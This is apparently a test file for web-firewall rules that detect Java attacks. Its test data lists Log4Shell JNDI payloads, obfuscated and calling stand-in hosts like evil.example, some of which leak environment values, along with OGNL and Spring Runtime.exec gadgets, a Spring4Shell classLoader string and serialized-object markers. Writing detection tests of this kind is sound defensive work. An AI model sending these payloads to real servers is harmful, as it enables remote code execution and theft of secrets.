import { test } from 'node:test';
import assert from 'node:assert/strict';
import { rules, resolveLookups } from './jndi.ts';
import { matchAll, timeAll, ruleMetaProblems, checkAll, testContext, testScope } from './lib/testing.ts';

test('rule metadata is well formed', () => {
  assert.deepEqual(ruleMetaProblems(rules), []);
});

test('resolves obfuscated lookups to jndi:', () => {
  const attacks = [
    '${jndi:ldap://evil.example/a}',
    '${${lower:j}ndi:rmi://evil.example/a}',
    '${${::-j}${::-n}${::-d}${::-i}:ldap://evil.example/a}',
    '${${env:NOPE:-j}ndi${env:NOPE:-:}${env:NOPE:-l}dap://evil.example/a}',
    "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:dns://evil.example}",
    '${j${lower:N}di:ldap://x}',
    '${${upper:j}${upper:n}${lower:d}i:iiop://x}',
    '${jndi:ldap://${env:USER}.evil.example/a}',
    '  ${ jndi:ldap://evil.example',
    '%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D',
    '${base64:JHtqbmRpOmxkYXA6Ly9ldmlsLmV4YW1wbGUvYX0=}',
  ];
  for (const a of attacks) {
    assert.ok(matchAll(rules, a).includes('944150'), `missed ${a}`);
  }
  assert.ok(resolveLookups('${${lower:J}${lower:N}DI:x}').jndi !== null);
});

test('checks every request header, not only the inspected list', () => {
  const ctx = testContext('GET', '/', [['Host', 'a'], ['X-Api-Version', '${${lower:jndi}:ldap://evil.example/x}'], ['User-Agent', 'curl/8']]);
  const hits = checkAll(rules, testScope([], ctx));
  assert.equal(hits.length, 1);
  assert.match(hits[0]!, /^944151: /);
  const clean = testContext('GET', '/', [['Host', 'a'], ['X-Template', '${user.name}']]);
  assert.deepEqual(checkAll(rules, testScope([], clean)), []);
});

test('does not flag template placeholders or prose', () => {
  const benign = ['${org.name}: your code is ${code}', 'jndi: a Java naming API', '${user.profile.firstName}', 'Costs ${price}', '${env}'];
  for (const b of benign) assert.deepEqual(matchAll(rules, b), [], `false positive on ${b}`);
  assert.ok(matchAll(rules, '${env:AWS_SECRET_ACCESS_KEY}', 'query', 2).includes('944152'));
});

test('linear time on 64 KiB pathological input', () => {
  const inputs = ['${'.repeat(32768), '${'.repeat(24) + 'a'.repeat(65000) + '}'.repeat(24), '}'.repeat(65536), '${::-j}'.repeat(9362), '${lower:'.repeat(8192)];
  for (const s of inputs) {
    const ms = timeAll(rules, s);
    assert.ok(ms < 2000, `took ${ms} ms`);
  }
  const ctx = testContext('GET', '/', [['X-A', '${'.repeat(32768)]]);
  const t0 = performance.now();
  checkAll(rules, testScope([], ctx));
  assert.ok(performance.now() - t0 < 2000);
});

test('detects Java code-execution gadgets, OGNL and serialized objects', () => {
  const attacks: [string, string][] = [
    ['${T(java.lang.Runtime).getRuntime().exec("id")}', '944100'],
    ["%{(#_memberAccess['allowStaticMethodAccess']=true).(@java.lang.Runtime@getRuntime().exec('id'))}", '944100'],
    ['class.module.classLoader.resources.context.parent.pipeline.first.pattern=x', '944100'],
    ['<sorted-set><dynamic-proxy><interface>java.lang.Comparable</interface></dynamic-proxy></sorted-set>', '944100'],
    ['new java.lang.ProcessBuilder("id").start()', '944100'],
    ['rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA==', '944110'],
    ['ACED0005737200', '944110'],
  ];
  for (const [a, id] of attacks) assert.ok(matchAll(rules, a).includes(id), `missed ${id} on ${a}`);
  const ctx = testContext('POST', '/upload', [['Host', 'a'], ['Content-Type', "%{(#nike='multipart/form-data').(#_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}"]]);
  assert.ok(checkAll(rules, testScope([], ctx)).some((h) => h.startsWith('944101')));
});

test('does not flag Java prose or ordinary base64', () => {
  const benign = ['Uses the java.lang package', 'The OGNL expression language', 'a priority queue', 'SGVsbG8gd29ybGQ=', 'brO0ABC is not at a boundary', 'Runtime errors'];
  for (const b of benign) assert.deepEqual(matchAll(rules, b), [], `false positive on ${b}`);
});
